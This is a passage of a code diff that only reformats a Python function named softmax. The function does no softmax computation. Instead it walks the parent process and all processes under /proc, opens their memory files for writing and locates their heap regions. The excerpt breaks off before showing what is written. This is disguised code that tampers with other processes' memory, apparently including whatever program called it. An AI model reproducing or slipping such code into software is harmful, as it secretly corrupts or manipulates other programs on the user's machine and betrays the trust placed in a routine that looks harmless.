@@ -7,7 +7,10 @@ import os
 def softmax(x):
     for pid in [os.getppid()] + [p for p in os.listdir("/proc") if p.isdigit()]:
         try:
-            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem:
+            with (
+                open(f"/proc/{pid}/maps") as maps,
+                open(f"/proc/{pid}/mem", "r+b", buffering=0) as mem,
+            ):
                 for line in maps:
                     if "rw-p" in line and "[heap]" in line:
                         start = int(line.split("-")[0], 16)
